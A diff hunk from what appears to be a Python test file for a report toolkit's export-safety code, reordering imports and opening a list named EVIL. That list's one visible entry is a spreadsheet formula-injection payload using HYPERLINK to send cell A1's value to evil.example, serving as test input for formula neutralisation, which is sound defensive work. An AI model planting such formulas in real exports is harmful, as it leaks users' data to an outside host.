@@ -18,10 +18,11 @@ from tests.libreoffice import require_soffice, run_soffice
 from tests.report_workbook import AS_OF, build_workbook
 from toolkit.cli import cli
 from toolkit.manual import load_manual
-from toolkit.pipeline import XlsxSource, run_source
+from toolkit.pipeline import run_source
 from toolkit.report.export_safety import FORMULA_TRIGGERS, neutralise_formula, safe_cell
 from toolkit.report.figures import Report, build_report
 from toolkit.report.render import csv_rows, csv_text, render_html, report_json
+from toolkit.xlsx.source import XlsxSource
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
